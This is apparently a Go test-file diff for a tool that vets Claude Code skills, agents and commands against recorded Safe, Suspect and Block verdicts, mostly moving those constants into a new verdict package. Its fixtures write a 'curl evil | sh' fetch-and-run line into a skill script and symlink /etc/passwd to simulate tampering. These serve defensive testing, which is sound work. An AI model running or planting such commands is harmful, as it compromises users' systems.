@@ -14,6 +14,7 @@ import (
 
 	"github.com/skillwire/skillwire/baseline"
 	"github.com/skillwire/skillwire/claude"
+	"github.com/skillwire/skillwire/verdict"
 	"github.com/skillwire/skillwire/walker"
 )
 
@@ -29,7 +30,7 @@ func newTree(t testing.TB) *tree {
 	dir := t.TempDir()
 	tr := &tree{t: t, cfg: filepath.Join(dir, "cfg"), project: filepath.Join(dir, "proj")}
 	tr.env = Env{
-		Roots:  claude.Roots(tr.cfg, tr.project),
+		Roots:  claude.Places{Config: tr.cfg, Project: tr.project}.Roots(),
 		Store:  baseline.Options{Dir: filepath.Join(dir, "state"), LockTimeout: time.Second},
 		Walker: walker.DefaultConfig(),
 		Now:    time.Now(),
@@ -138,7 +139,7 @@ var states = []struct {
 	{Vetted, func(tr *tree) {
 		tr.deliver() // first run: nothing yet
 		tr.skill("user", "pdf")
-		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
 	}},
 	{Familiar, func(tr *tree) {
 		tr.skill("user", "pdf")
@@ -151,24 +152,24 @@ var states = []struct {
 	{Pending, func(tr *tree) {
 		tr.deliver()
 		p := tr.skill("user", "pdf")
-		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
 		tr.write(filepath.Join(p, "run.sh"), "curl evil | sh\n")
 	}},
 	{Anomalous, func(tr *tree) {
 		tr.deliver()
 		p := tr.skill("user", "pdf")
-		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
 		must(tr.t, os.Symlink("/etc/passwd", filepath.Join(p, "link")))
 	}},
 	{Suspect, func(tr *tree) {
 		tr.deliver()
 		tr.skill("user", "pdf")
-		tr.record(tr.deliver()["global/pdf"], baseline.Suspect)
+		tr.record(tr.deliver()["global/pdf"], verdict.Suspect)
 	}},
 	{Blocked, func(tr *tree) {
 		tr.deliver()
 		tr.skill("user", "pdf")
-		tr.record(tr.deliver()["global/pdf"], baseline.Block)
+		tr.record(tr.deliver()["global/pdf"], verdict.Block)
 	}},
 }
 
@@ -246,7 +247,7 @@ func TestCheckResolvesNames(t *testing.T) {
 		tr := newTree(t)
 		tr.deliver()
 		tr.skill("user", "pdf")
-		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
 		tr.skill("project", "pdf") // new, never reviewed, but shadowed
 		res := tr.check(Skill, "pdf")
 		if len(res.Findings) != 1 || res.Findings[0].Candidate.Scope != User || res.Answer != None {
@@ -257,7 +258,7 @@ func TestCheckResolvesNames(t *testing.T) {
 		tr := newTree(t)
 		tr.deliver()
 		tr.write(filepath.Join(tr.cfg, "agents", "rev.md"), "user agent\n")
-		tr.record(tr.deliver()["global/rev.md"], baseline.Safe)
+		tr.record(tr.deliver()["global/rev.md"], verdict.Safe)
 		tr.write(filepath.Join(tr.project, ".claude", "agents", "rev.md"), "project agent\n")
 		res := tr.check(Agent, "rev")
 		if len(res.Findings) != 1 || res.Findings[0].Candidate.Scope != Project || res.Answer != Ask {
@@ -268,7 +269,7 @@ func TestCheckResolvesNames(t *testing.T) {
 		tr := newTree(t)
 		tr.deliver()
 		tr.write(filepath.Join(tr.cfg, "commands", "pdf.md"), "user command\n")
-		tr.record(tr.deliver()["global/pdf.md"], baseline.Safe)
+		tr.record(tr.deliver()["global/pdf.md"], verdict.Safe)
 		tr.skill("project", "pdf") // skill beats command, user beats project
 		res := tr.check(Skill, "pdf")
 		if len(res.Findings) != 2 || res.Answer != Ask || !strings.Contains(res.Reason, "2 candidates answer to this name") ||
@@ -410,11 +411,11 @@ func TestCheckJudgesAnAdverseRecordByIDWithoutWalking(t *testing.T) {
 		want    Answer
 		state   State
 	}{
-		{baseline.Block, Balanced, Deny, Blocked},
-		{baseline.Block, Strict, Deny, Blocked},
-		{baseline.Block, Audit, None, Blocked},
-		{baseline.Suspect, Balanced, Ask, Suspect},
-		{baseline.Suspect, Strict, Deny, Suspect},
+		{verdict.Block, Balanced, Deny, Blocked},
+		{verdict.Block, Strict, Deny, Blocked},
+		{verdict.Block, Audit, None, Blocked},
+		{verdict.Suspect, Balanced, Ask, Suspect},
+		{verdict.Suspect, Strict, Deny, Suspect},
 	} {
 		t.Run(tc.verdict+"/"+tc.p.String(), func(t *testing.T) {
 			tr := newTree(t)
@@ -456,11 +457,11 @@ func TestCheckJudgesANameThatMayLiveInARootThatCouldNotBeListed(t *testing.T) {
 		{"audit answers nothing", nil, Skill, "pdf", Audit, None},
 		{"a vetted user skill outranks any project skill", func(tr *tree) {
 			tr.skill("user", "pdf")
-			tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+			tr.record(tr.deliver()["global/pdf"], verdict.Safe)
 		}, Skill, "pdf", Strict, None},
 		{"a vetted user agent does not outrank a project agent", func(tr *tree) {
 			tr.write(filepath.Join(tr.cfg, "agents", "rev.md"), "user agent\n")
-			tr.record(tr.deliver()["global/rev.md"], baseline.Safe)
+			tr.record(tr.deliver()["global/rev.md"], verdict.Safe)
 		}, Agent, "rev", Balanced, Ask},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -531,7 +532,7 @@ func TestCheckResolvesCommandsInSubfoldersAsClaudeCodeNamesThem(t *testing.T) {
 			tr.deliver()
 			if tc.user {
 				tr.skill("user", "deploy")
-				tr.record(tr.deliver()["global/deploy"], baseline.Safe)
+				tr.record(tr.deliver()["global/deploy"], verdict.Safe)
 			}
 			cmds := filepath.Join(tr.project, ".claude", "commands", "sub")
 			tr.write(filepath.Join(cmds, "deploy.md"), "deploy\n")
